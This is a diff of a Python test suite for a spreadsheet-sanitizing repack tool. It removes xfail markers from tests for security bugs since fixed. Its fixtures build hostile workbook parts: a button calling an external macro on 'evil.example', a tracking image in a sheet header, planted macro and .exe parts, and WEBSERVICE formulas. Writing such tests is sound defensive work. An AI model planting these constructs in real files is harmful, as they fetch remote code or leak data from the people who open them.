@@ -5,7 +5,8 @@ findings), edits the package by hand and asks repack for the marked copy. Where 
 the copy must be a sound package (every part well-formed with a content type, every relationship
 and every r:id resolving, rows and cells in order, worksheet children in schema order), must say
 what openpyxl's copy says (returns_compare), and must keep nothing that could act; where it is not
-sure it must raise Unsure, never anything else. Tests marked xfail(strict=True) show a bug."""
+sure it must raise Unsure, never anything else. A test marked xfail(strict=True) shows a promise
+not kept (both ways of making a copy keep the formulas of conditional formats and validations)."""
 from __future__ import annotations
 
 import hashlib
@@ -626,27 +627,23 @@ def test_a_package_libreoffice_saved_and_libreoffice_opening_the_copies(forms, t
     assert load_workbook(tmp_path / "back" / "lo.xlsx")["自评表"]["A1"].comment.text.startswith("单位批注")
 
 
-# ============================================================================ bugs (xfail strict)
-@pytest.mark.xfail(strict=True, reason="absent cells inserted at one spot come out in reverse column order")
+# ============================================================ found by the attack, mended since
 def test_cells_added_to_a_row_stay_in_column_order(forms):
     data, content = forms["op"]
     made(data, flags(content, "K3", "L3", "M3"))
 
 
-@pytest.mark.xfail(strict=True, reason="absent rows inserted at one spot come out in set order, reversed")
 def test_rows_added_stay_in_row_order(forms):
     data, content = forms["op"]
     made(data, flags(content, "Z200", "Z201", "A202", "Z203"))
 
 
-@pytest.mark.xfail(strict=True, reason="<sheetData/> is replaced once per added row: the part is not well-formed")
 def test_two_flags_on_an_empty_sheet(forms):
     data, content = forms["cover"]
     made(edit(data, {SHEET1: lambda x: re.sub(r"<sheetData>.*</sheetData>", "<sheetData/>", x)}),
          flags(content, "B2", "C9", sheet="封面"))
 
 
-@pytest.mark.xfail(strict=True, raises=TypeError, reason="a row of cells without r (or lower-case r) raises TypeError, not Unsure")
 @pytest.mark.parametrize("change", [
     lambda x: x.replace(re.search(r'<row r="26".*?</row>', x).group(),
                         re.sub(r' r="[A-Z]+26"', "", re.search(r'<row r="26".*?</row>', x).group())),
@@ -660,7 +657,6 @@ def test_cells_without_their_reference(forms, change):
     made_or_unsure(hostile, content)
 
 
-@pytest.mark.xfail(strict=True, reason="a prefixed [Content_Types].xml is read as empty: every part loses its type")
 def test_content_types_with_a_prefix(forms):
     data, content = forms["xw"]
 
@@ -670,15 +666,11 @@ def test_content_types_with_a_prefix(forms):
     made_or_unsure(edit(data, {TYPES: prefixed}), content)
 
 
-@pytest.mark.xfail(strict=True, reason="a prefixed sheet .rels is read as empty: the unit's legacyDrawing dangles, "
-                                       "a second one is added, its comments are lost")
 def test_sheet_relationships_with_a_prefix(forms):
     data, content = forms["xw"]
     made_or_unsure(with_comments(data, ["A1", "C26"], prefix="pr"), content)
 
 
-@pytest.mark.xfail(strict=True, reason="only the first <pageSetup> loses its r:id: the sheet's own points at a "
-                                       "relationship that is gone (then at the new vmlDrawing)")
 def test_printer_settings_of_a_custom_view(forms):
     data, content = forms["xw"]
     views = ('<customSheetViews><customSheetView guid="{11111111-2222-3333-4444-555555555555}" scale="90">'
@@ -694,7 +686,6 @@ def test_printer_settings_of_a_custom_view(forms):
     made_or_unsure(hostile, content)
 
 
-@pytest.mark.xfail(strict=True, reason="a dropped sheet part's <Override> stays in [Content_Types].xml")
 def test_printer_settings_typed_by_an_override(forms):
     data, content = forms["xw"]
     hostile = edit(data, {
@@ -705,8 +696,6 @@ def test_printer_settings_typed_by_an_override(forms):
     made_or_unsure(hostile, content)
 
 
-@pytest.mark.xfail(strict=True, reason="an unflagged sheet's VML is never looked at: a button calling an external "
-                                       "macro comes back (openpyxl's copy drops it)")
 def test_a_form_control_on_an_unflagged_sheet(forms):
     data, content = forms["cover"]
     button = ("B8", "Button", "<x:PrintObject>False</x:PrintObject><x:FmlaMacro>'\\\\evil.example\\share\\m.xlsm'!Auto"
@@ -718,8 +707,6 @@ def test_a_form_control_on_an_unflagged_sheet(forms):
     made_or_unsure(hostile, content)
 
 
-@pytest.mark.xfail(strict=True, reason="an unflagged sheet's VML keeps its relationships: an external image "
-                                       "(a web bug in the header) comes back")
 def test_an_external_image_in_an_unflagged_sheets_header(forms):
     data, content = forms["cover"]
     header = ('<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">'
@@ -737,8 +724,6 @@ def test_an_external_image_in_an_unflagged_sheets_header(forms):
     made_or_unsure(hostile, content)
 
 
-@pytest.mark.xfail(strict=True, reason="print titles and areas of a sheet named with ' or ! are dropped "
-                                       "(_PRINT_PART does not read '' or ! inside quotes); openpyxl keeps them")
 @pytest.mark.parametrize("name", ["O'Brien表", "A!B"])
 def test_print_settings_of_a_sheet_with_an_odd_name(forms, name):
     data, content = forms["xw"]
@@ -751,8 +736,6 @@ def test_print_settings_of_a_sheet_with_an_odd_name(forms, name):
     assert fast is None or load_workbook(io.BytesIO(fast))[name].print_title_rows == "$1:$3"
 
 
-@pytest.mark.xfail(strict=True, reason="custom.xml written with single quotes: the old selfeval property is not "
-                                       "removed, a second one is added with a pid already taken")
 def test_custom_properties_in_single_quotes(forms):
     data, content = forms["xw"]
     body = (f"<property fmtid='{FMTID}' pid='2' name='selfeval'><vt:lpwstr>summary</vt:lpwstr></property>"
@@ -760,15 +743,11 @@ def test_custom_properties_in_single_quotes(forms):
     made_or_unsure(_with_custom(data, body), content)
 
 
-@pytest.mark.xfail(strict=True, reason="an unlisted docProps/Custom.xml stays beside the new docProps/custom.xml: "
-                                       "two parts of one name")
 def test_an_unlisted_custom_part_of_another_case(forms):
     data, content = forms["xw"]
     made_or_unsure(edit(data, {"docProps/Custom.xml": b"<Properties/>"}), content)
 
 
-@pytest.mark.xfail(strict=True, reason="XML comments outside worksheets are read as markup: a commented <xf> "
-                                       "shifts every new style index, a commented <sheet> or name comes alive")
 @pytest.mark.parametrize("where, change", [
     (STYLES, lambda x: x.replace("<cellXfs count=\"2\">", '<cellXfs count="2"><!-- <xf numFmtId="0" fontId="0" '
                                                           'fillId="0" borderId="0" xfId="0"/> -->')),
@@ -783,8 +762,6 @@ def test_xml_comments_outside_the_worksheets(forms, where, change):
     made_or_unsure(hostile, content)
 
 
-@pytest.mark.xfail(strict=True, reason="web publishing with autoRepublish to a share stays (workbook and sheet); "
-                                       "openpyxl's copy drops it")
 def test_web_publishing_does_not_come_back(forms):
     data, content = forms["xw"]
     hostile = edit(data, {
@@ -798,8 +775,6 @@ def test_web_publishing_does_not_come_back(forms):
     assert fast is None or not any("webPublish" in part(fast, n) for n in (WORKBOOK, SHEET1))
 
 
-@pytest.mark.xfail(strict=True, reason="parts no relationship reaches (a vbaProject.bin, an .exe) are copied "
-                                       "through; openpyxl's copy drops them")
 def test_parts_nothing_refers_to_do_not_come_back(forms):
     data, content = forms["xw"]
     hostile = edit(data, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro", "xl/media/tool.exe": b"MZ",
@@ -810,8 +785,6 @@ def test_parts_nothing_refers_to_do_not_come_back(forms):
     assert fast is None or not {"xl/vbaProject.bin", "xl/media/tool.exe"} & set(names_of(fast))
 
 
-@pytest.mark.xfail(strict=True, reason="a control character in the unit's name (a cell's _x001F_) goes raw into "
-                                       "问题清单's print header: the part is not well-formed (both paths)")
 def test_a_control_character_in_the_units_name(forms, tmp_path):
     data, content = forms["xw"]
     inbox = tmp_path / "in"
@@ -829,8 +802,6 @@ def test_a_control_character_in_the_units_name(forms, tmp_path):
     assert broken == []
 
 
-@pytest.mark.xfail(strict=True, reason="openpyxl's path keeps array formulas whatever they call (_sanitize looks at "
-                                       "str values only): {=WEBSERVICE(…)} survives")
 def test_an_active_array_formula_through_openpyxl(forms):
     from openpyxl.worksheet.formula import ArrayFormula
 
@@ -856,8 +827,6 @@ def test_formulas_of_conditional_formats_and_validations(forms):
     assert "WEBSERVICE" not in part(fast, SHEET1)
 
 
-@pytest.mark.xfail(strict=True, reason="rebuild.py renames a sheet it cannot keep (here over 31 characters), the "
-                                       "marks keep the reader's name: no fill, no comment, no link")
 def test_an_ods_sheet_with_a_long_name_keeps_its_marks(forms, tmp_path):
     name = "很长的工作表名称" * 5
     content_xml = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:'
